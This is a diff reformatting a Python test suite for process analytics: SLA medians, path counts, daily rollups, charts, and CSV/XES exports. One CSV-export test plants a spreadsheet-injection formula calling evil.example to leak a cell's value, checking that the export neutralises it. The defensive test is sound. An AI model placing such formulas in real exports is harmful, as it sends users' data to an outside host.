@@ -1,5 +1,6 @@
 """Process analytics over known lifecycles run on a controllable clock: exact counts, medians,
 90th percentiles and SLA breach shares per node and per path."""
+
 from __future__ import annotations
 
 import csv
@@ -38,7 +39,9 @@ class Run:
         code, serials, seals = new_subscriber(self.system)
         return submit(self.life, self.world, code, serials, seals, [value])
 
-    def work(self, iid: int, task: str, who: str, wait: dict, work: dict, data: dict | None = None) -> None:
+    def work(
+        self, iid: int, task: str, who: str, wait: dict, work: dict, data: dict | None = None
+    ) -> None:
         """After ``wait`` someone claims the task, after ``work`` more it is completed with ``data``."""
         self.clock.advance(**wait)
         item = self.life.item(iid, task)
@@ -50,9 +53,23 @@ class Run:
 
     def inspect(self, iid: int, value: int, wait: dict, work: dict) -> None:
         line_id = self.life.application(iid).lines[0].id
-        self.work(iid, "field_inspection", "inspector", wait, work, {
-            "outcome": "done",
-            "meters": [{"line_id": line_id, "value": value, "read_on": self.system.services.today().isoformat()}]})
+        self.work(
+            iid,
+            "field_inspection",
+            "inspector",
+            wait,
+            work,
+            {
+                "outcome": "done",
+                "meters": [
+                    {
+                        "line_id": line_id,
+                        "value": value,
+                        "read_on": self.system.services.today().isoformat(),
+                    }
+                ],
+            },
+        )
 
 
 ACCEPT = {"decision": "accept"}
@@ -74,7 +91,9 @@ def scenario(system, world, clock):
     | 6 | escalated (swept after 2 days 1 minute), then accepted: SLA broken | 50 / 1 | |
     | 7 | abandoned draft (31 days) | | |
     """
-    next_working_monday(clock, system.services.calendar)  # the review SLA, two working days, is 48 hours
+    next_working_monday(
+        clock, system.services.calendar
+    )  # the review SLA, two working days, is 48 hours
     run = Run(system, world, clock)
     start = clock()
     ids = {}
@@ -93,7 +112,9 @@ def scenario(system, world, clock):
     ids[6] = run.submit(1206)
     clock.advance(days=2, minutes=1)
     assert run.life.sweep() == 1
-    run.work(ids[6], "review_application", "operator", {"hours": 1, "minutes": 59}, {"hours": 1}, ACCEPT)
+    run.work(
+        ids[6], "review_application", "operator", {"hours": 1, "minutes": 59}, {"hours": 1}, ACCEPT
+    )
     ids[7] = run.life.start(world["citizen"])
     clock.advance(days=31)
     run.life.sweep()
@@ -126,20 +147,33 @@ def test_paths_are_exact(system, scenario):
     with system.sessions() as s:
         found = {p["path"]: p for p in analytics.paths(s, scenario["scope"], classify)}
     assert {name: p["count"] for name, p in found.items()} == {
-        "accepted_directly": 2, "overridden": 1, "inspected": 1, "rejected": 1, "escalated": 1, "abandoned": 1}
+        "accepted_directly": 2,
+        "overridden": 1,
+        "inspected": 1,
+        "rejected": 1,
+        "escalated": 1,
+        "abandoned": 1,
+    }
     assert found["accepted_directly"]["share"] == pytest.approx(2 / 7)
     assert found["accepted_directly"]["median"] == 3.75 * HOUR  # 2.5 h and 5 h from start to end
     assert found["overridden"]["median"] == 9 * HOUR
     assert found["escalated"]["median"] == (48 + 2 + 1) * HOUR
     assert found["abandoned"]["median"] == 31 * 24 * HOUR
-    assert found["overridden"]["nodes"] == ["enter_readings", "executed", "field_inspection", "identify_subscriber",
-                                            "review_application"]
+    assert found["overridden"]["nodes"] == [
+        "enter_readings",
+        "executed",
+        "field_inspection",
+        "identify_subscriber",
+        "review_application",
+    ]
     assert "field_inspection" not in found["accepted_directly"]["nodes"]
 
 
 def test_unit_filter_and_node_listing(system, scenario):
     scope = scenario["scope"]
-    other_unit = analytics.Scope(scope.version_ids, scope.start, scope.end, (scenario["unit_id"] + 100,))
+    other_unit = analytics.Scope(
+        scope.version_ids, scope.start, scope.end, (scenario["unit_id"] + 100,)
+    )
     mine = analytics.Scope(scope.version_ids, scope.start, scope.end, (scenario["unit_id"],))
     with system.sessions() as s:
         assert analytics.node_stats(s, other_unit) == {}
@@ -155,8 +189,12 @@ def test_unit_filter_and_node_listing(system, scenario):
 
 def _days(system, scope, unit_ids=None) -> analytics_rollup.Days:
     zone = ZoneInfo(system.settings.app.timezone)
-    return analytics_rollup.Days(scope.version_ids, scope.start.astimezone(zone).date(),
-                                 scope.end.astimezone(zone).date(), unit_ids)
+    return analytics_rollup.Days(
+        scope.version_ids,
+        scope.start.astimezone(zone).date(),
+        scope.end.astimezone(zone).date(),
+        unit_ids,
+    )
 
 
 def test_rollup_agrees_with_the_exact_figures(system, scenario):
@@ -165,7 +203,9 @@ def test_rollup_agrees_with_the_exact_figures(system, scenario):
         assert system.refresh_analytics(s, force=True)
         s.commit()
         exact = analytics.node_stats(s, scope)
-        rolled = analytics_rollup.node_stats(s, _days(system, scope), analytics.open_counts(s, scope))
+        rolled = analytics_rollup.node_stats(
+            s, _days(system, scope), analytics.open_counts(s, scope)
+        )
         exact_paths = {p["path"]: p for p in analytics.paths(s, scope, classify)}
         rolled_paths = {p["path"]: p for p in analytics_rollup.paths(s, _days(system, scope))}
     assert set(rolled) == set(exact)
@@ -177,8 +217,9 @@ def test_rollup_agrees_with_the_exact_figures(system, scenario):
                 assert rolled[node][key] == pytest.approx(figures[key] or 0, abs=60), (node, key)
             else:
                 assert rolled[node][key] == pytest.approx(figures[key], rel=0.1), (node, key)
-    assert {k: (p["count"], p["share"]) for k, p in rolled_paths.items()} == \
-        {k: (p["count"], p["share"]) for k, p in exact_paths.items()}
+    assert {k: (p["count"], p["share"]) for k, p in rolled_paths.items()} == {
+        k: (p["count"], p["share"]) for k, p in exact_paths.items()
+    }
     assert rolled_paths["escalated"]["median"] == pytest.approx(51 * HOUR, rel=0.1)
 
 
@@ -187,7 +228,9 @@ def test_charts(system, scenario):
         system.refresh_analytics(s, force=True)
         s.commit()
         figures = analytics_rollup.charts(s, _days(system, scenario["scope"]), DIRECT)
-        unit_only = analytics_rollup.charts(s, _days(system, scenario["scope"], (scenario["unit_id"],)), DIRECT)
+        unit_only = analytics_rollup.charts(
+            s, _days(system, scenario["scope"], (scenario["unit_id"],)), DIRECT
+        )
     assert sum(n for _day, n in figures["per_day"]) == 6  # the abandoned draft was never submitted
     assert sum(n for _week, n in figures["per_week"]) == 6
     assert figures["cycle_histogram"] == [5, 0, 1, 0, 0, 0, 1]  # five within a day, 51 h, 31 days
@@ -225,7 +268,9 @@ def test_waiting_now_lists_the_open_review(system, world, clock):
     clock.advance(hours=3)
     with system.sessions() as s:
         version_id = s.scalar(select(ProcessVersion.id))
-        scope = analytics.Scope((version_id,), clock() - timedelta(days=1), clock() + timedelta(days=1))
+        scope = analytics.Scope(
+            (version_id,), clock() - timedelta(days=1), clock() + timedelta(days=1)
+        )
         listing = analytics.node_instances(s, scope, "review_application", clock())
         assert analytics.node_stats(s, scope)["review_application"]["open"] == 1
     assert [(r["instance_id"], r["seconds"]) for r in listing["waiting"]] == [(iid, 3 * HOUR)]
@@ -262,8 +307,14 @@ def test_csv_export_neutralises_a_formula_in_a_note(system, scenario):
     iid = scenario["ids"][1]
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     with system.sessions() as s:
-        record(s, MARKER, iid, scenario["scope"].start + timedelta(hours=1), node="review_application",
-               detail=formula)
+        record(
+            s,
+            MARKER,
+            iid,
+            scenario["scope"].start + timedelta(hours=1),
+            node="review_application",
+            detail=formula,
+        )
         s.commit()
         text = "".join(analytics_export.to_csv(s, scenario["scope"], _unit_codes(s)))
         total = s.scalar(select(func.count()).select_from(ProcessEvent))
@@ -271,8 +322,12 @@ def test_csv_export_neutralises_a_formula_in_a_note(system, scenario):
     assert len(rows) == total
     note = next(r for r in rows if r["event"] == "marker" and r["instance_id"] == str(iid))
     assert note["detail"] == "'" + formula
-    review = next(r for r in rows if r["event"] == "task_ready" and r["activity"] == "review_application")
-    assert review["unit"] == "U-YSM" and review["case"].startswith("20")  # an application number, as is
+    review = next(
+        r for r in rows if r["event"] == "task_ready" and r["activity"] == "review_application"
+    )
+    assert review["unit"] == "U-YSM" and review["case"].startswith(
+        "20"
+    )  # an application number, as is
 
 
 def test_xes_export_reads_back_with_every_event(system, scenario, tmp_path):
@@ -282,14 +337,28 @@ def test_xes_export_reads_back_with_every_event(system, scenario, tmp_path):
 
     with system.sessions() as s:
         path = tmp_path / "log.xes"
-        path.write_text("".join(analytics_export.to_xes(s, scenario["scope"], _unit_codes(s), "meter_reading")))
+        path.write_text(
+            "".join(analytics_export.to_xes(s, scenario["scope"], _unit_codes(s), "meter_reading"))
+        )
         events = list(s.scalars(select(ProcessEvent)))
         numbers = {e.instance_id: e.reference for e in events if e.reference}
-        expected = sorted((numbers.get(e.instance_id, f"instance-{e.instance_id}"), analytics_export.activity(e),
-                           e.at.replace(tzinfo=UTC)) for e in events)
+        expected = sorted(
+            (
+                numbers.get(e.instance_id, f"instance-{e.instance_id}"),
+                analytics_export.activity(e),
+                e.at.replace(tzinfo=UTC),
+            )
+            for e in events
+        )
     frame = pm4py.read_xes(str(path), variant="iterparse")  # the XML parser (lxml)
-    found = sorted(zip(frame["case:concept:name"], frame["concept:name"],
-                       (t.to_pydatetime() for t in frame["time:timestamp"]), strict=False))
+    found = sorted(
+        zip(
+            frame["case:concept:name"],
+            frame["concept:name"],
+            (t.to_pydatetime() for t in frame["time:timestamp"]),
+            strict=False,
+        )
+    )
     assert len(found) == len(expected) > 7 * 5
     assert found == expected
     assert frame["case:concept:name"].nunique() == 7
